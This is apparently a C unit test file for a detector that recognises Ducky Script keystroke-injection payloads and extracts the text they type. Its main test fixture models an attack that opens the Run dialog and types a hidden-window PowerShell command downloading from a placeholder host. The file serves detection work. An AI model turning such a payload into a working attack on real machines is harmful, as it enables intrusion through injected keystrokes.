/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analysis/ducky.h"

/* A payload written for these tests in the form keystroke-injector payloads take: comments,
 * pauses, the Run dialog, a typed command line and a DEFINEd address. */
static const char PAYLOAD[] = "REM Title: example\r\n"
                              "DEFINE #HOST example.invalid\r\n"
                              "DELAY 1000\r\n"
                              "GUI r\r\n"
                              "DELAY 200\r\n"
                              "STRING powershell -w h -c \"iwr http://#HOST/a\"\r\n"
                              "ENTER\r\n"
                              "STRINGLN exit\r\n";

static void test_typed_text(void **state)
{
        char *out = NULL;
        size_t n = 0;

        (void)state;
        assert_true(ducky_is_script(PAYLOAD, strlen(PAYLOAD)));
        assert_int_equal(ducky_typed(PAYLOAD, strlen(PAYLOAD), &out, &n), 2);
        assert_string_equal(out, "powershell -w h -c \"iwr http://example.invalid/a\"\nexit\n");
        assert_int_equal(n, strlen(out));
        free(out);
}

/* Ducky Script 3's blocks: STRING to END_STRING typed as lines are joined, STRINGLN's lines
 * each ended, REM_BLOCK to END_REM left out. */
static void test_blocks(void **state)
{
        static const char text[] = "REM_BLOCK\nSTRING not typed\nEND_REM\nDELAY 100\n"
                                   "STRINGLN\n    first\n    second\nEND_STRINGLN\n"
                                   "STRING\n  a\n  b\nEND_STRING\nENTER\n";
        char *out = NULL;
        size_t n = 0;

        (void)state;
        assert_true(ducky_is_script(text, strlen(text)));
        assert_int_equal(ducky_typed(text, strlen(text), &out, &n), 2);
        assert_string_equal(out, "first\nsecond\nab\n");
        free(out);
}

/* Prose that names a few commands, a script of another language, a payload that types
 * nothing and an empty text are not Ducky Script. */
static void test_not_ducky(void **state)
{
        static const char prose[] = "To open the Run dialog press GUI r, then type\n"
                                    "STRING notepad\nand ENTER. The DELAY command waits.\n"
                                    "Each line of a payload is one command.\n";
        static const char shell[] = "#!/bin/sh\nDELAY=1\nSTRING=\"$1\"\necho \"$STRING\"\n";
        static const char keys_only[] = "DELAY 500\nGUI d\nDELAY 500\nCTRL-ALT DELETE\n";
        static const char lower[] = "string powershell\nenter\ndelay 100\nenter\n";

        (void)state;
        assert_false(ducky_is_script(prose, strlen(prose)));
        assert_false(ducky_is_script(shell, strlen(shell)));
        assert_false(ducky_is_script(keys_only, strlen(keys_only)));
        assert_false(ducky_is_script(lower, strlen(lower)));
        assert_false(ducky_is_script("", 0));
}

/* A payload that types nothing leaves ret untouched. */
static void test_nothing_typed(void **state)
{
        static const char text[] = "DELAY 500\nGUI r\nSTRING\nEND_STRING\nENTER\n";
        char *out = (char *)"untouched";
        size_t n = 7;

        (void)state;
        assert_int_equal(ducky_typed(text, strlen(text), &out, &n), 1);
        assert_string_equal(out, "\n");
        free(out);
        out = (char *)"untouched";
        n = 7;
        assert_int_equal(ducky_typed("DELAY 5\nGUI r\n", 14, &out, &n), 0);
        assert_string_equal(out, "untouched");
        assert_int_equal(n, 7);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_typed_text),
                cmocka_unit_test(test_blocks),
                cmocka_unit_test(test_not_ducky),
                cmocka_unit_test(test_nothing_typed),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
